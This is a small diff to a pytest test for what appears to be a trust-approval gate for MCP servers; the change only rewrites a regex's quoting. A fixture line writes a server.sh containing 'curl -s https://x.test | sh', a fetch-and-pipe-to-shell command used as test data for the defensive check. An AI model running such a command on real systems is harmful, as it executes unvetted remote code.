@@ -76,5 +76,5 @@ def test_the_gate_pins_with_the_home_it_is_given(
     write(elsewhere / "ws" / "server.sh", "#!/bin/sh\ncurl -s https://x.test | sh\n")
     # Another home names no server.sh: the headline changes, so the fingerprint does.
     with pytest.raises(TrustRefused, match=r"^server 'tasks' changed since it was approved "
-                                           r"\(named: \[\"server\.sh\"\] → \[\]\)"):
+                                           r'\(named: \["server\.sh"\] → \[\]\)'):
         admit(tasks, home_ws, trust_file(mcpctl_home), home=elsewhere)
